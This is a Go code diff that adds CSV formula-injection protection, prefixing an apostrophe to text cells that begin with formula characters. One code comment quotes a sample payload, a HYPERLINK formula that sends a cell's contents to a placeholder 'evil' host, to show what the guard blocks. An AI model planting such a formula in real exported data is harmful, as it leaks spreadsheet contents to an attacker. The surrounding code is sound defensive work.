@@ -4,12 +4,13 @@ import (
 	"encoding/csv"
 	"io"
 	"strconv"
+	"strings"
 )
 
 // writeCSV writes the rows only, with a header; what was counted goes to the
 // command's stderr, so that the file stays a clean table for spreadsheets.
 func writeCSV(w io.Writer, r *Result) error {
-	cw := csv.NewWriter(w)
+	cw := newCSVWriter(w)
 	if err := cw.Write([]string{r.By, "count"}); err != nil {
 		return err
 	}
@@ -20,4 +21,41 @@ func writeCSV(w io.Writer, r *Result) error {
 	}
 	cw.Flush()
 	return cw.Error()
+}
+
+// csvWriter writes CSV whose text cells a spreadsheet will not run as formulas.
+type csvWriter struct{ *csv.Writer }
+
+func newCSVWriter(w io.Writer) csvWriter { return csvWriter{csv.NewWriter(w)} }
+
+func (c csvWriter) Write(record []string) error {
+	safe := make([]string, len(record))
+	for i, s := range record {
+		safe[i] = spreadsheetSafe(s)
+	}
+	return c.Writer.Write(safe)
+}
+
+func (c csvWriter) WriteAll(records [][]string) error {
+	for _, r := range records {
+		if err := c.Write(r); err != nil {
+			return err
+		}
+	}
+	c.Flush()
+	return c.Error()
+}
+
+// spreadsheetSafe neutralises a text cell that a spreadsheet would read as a
+// formula (OWASP's rule: one starting with =, +, -, @, tab or carriage return) by
+// putting an apostrophe before it: a ticket summary such as
+// =HYPERLINK("http://evil/?"&A1) then shows as text. Numbers, -5 say, stay numbers.
+func spreadsheetSafe(s string) string {
+	if s == "" || !strings.ContainsRune("=+-@\t\r", rune(s[0])) {
+		return s
+	}
+	if _, err := strconv.ParseFloat(s, 64); err == nil {
+		return s
+	}
+	return "'" + s
 }
